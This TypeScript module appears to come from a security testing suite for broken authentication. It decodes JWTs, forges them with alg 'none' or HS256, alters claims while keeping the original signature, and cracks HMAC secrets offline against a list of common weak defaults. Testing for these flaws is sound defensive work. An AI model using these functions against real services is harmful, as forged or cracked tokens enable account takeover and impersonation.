// JWT helpers for the broken-authentication tests: decode, re-sign with alg
// none or HS256, and try weak HMAC secrets offline (jwt-secrets.ts has the list).
import { createHmac, timingSafeEqual } from 'node:crypto';

const b64url = (data: Buffer | string): string => Buffer.from(data).toString('base64url');

export interface DecodedJwt {
  header: Record<string, unknown>;
  payload: Record<string, unknown>;
  signingInput: string;
  signature: string;
}

export function decodeJwt(token: string): DecodedJwt | null {
  const parts = token.split('.');
  if (parts.length !== 3) return null;
  try {
    const header = JSON.parse(Buffer.from(parts[0]!, 'base64url').toString('utf8')) as unknown;
    const payload = JSON.parse(Buffer.from(parts[1]!, 'base64url').toString('utf8')) as unknown;
    if (typeof header !== 'object' || !header || typeof payload !== 'object' || !payload) return null;
    return {
      header: header as Record<string, unknown>,
      payload: payload as Record<string, unknown>,
      signingInput: `${parts[0]}.${parts[1]}`,
      signature: parts[2]!,
    };
  } catch {
    return null;
  }
}

const HMAC: Record<string, string> = { HS256: 'sha256', HS384: 'sha384', HS512: 'sha512' };

export function signJwt(
  header: Record<string, unknown>,
  payload: Record<string, unknown>,
  secret: string,
): string {
  const input = `${b64url(JSON.stringify(header))}.${b64url(JSON.stringify(payload))}`;
  const alg = typeof header['alg'] === 'string' ? header['alg'] : 'HS256';
  if (alg === 'none') return `${input}.`;
  const hash = HMAC[alg] ?? 'sha256';
  return `${input}.${createHmac(hash, secret).update(input).digest('base64url')}`;
}

/** Secrets found signing real tokens (defaults of frameworks and tutorials). */
export const WEAK_JWT_SECRETS = [
  'secret',
  'password',
  '123456',
  'changeme',
  'jwt_secret',
  'secretkey',
  'secret123',
  'your-256-bit-secret',
  'your_jwt_secret',
  'mysecret',
  'supersecret',
  'key',
  'admin',
  'test',
  'default',
  'jwt',
  'token',
  'qwerty',
  'letmein',
  'shhhhh',
  'keyboard cat',
  'development',
  'changeit',
  'private',
  'secret-key',
  'SECRET_KEY',
];

/** The weak secret that signs this HMAC token, or null. */
export function crackJwt(token: string, secrets: Iterable<string> = WEAK_JWT_SECRETS): string | null {
  const jwt = decodeJwt(token);
  if (!jwt) return null;
  const hash = HMAC[String(jwt.header['alg'])];
  if (!hash) return null;
  const actual = Buffer.from(jwt.signature, 'base64url');
  for (const secret of secrets) {
    const expected = createHmac(hash, secret).update(jwt.signingInput).digest();
    if (expected.length === actual.length && timingSafeEqual(expected, actual)) return secret;
  }
  return null;
}

/** Same claims with changes, old signature kept (a server that does not verify accepts it). */
export function tamperJwt(token: string, changes: Record<string, unknown>): string | null {
  const jwt = decodeJwt(token);
  if (!jwt) return null;
  const payload = b64url(JSON.stringify({ ...jwt.payload, ...changes }));
  return `${token.split('.')[0]}.${payload}.${jwt.signature}`;
}
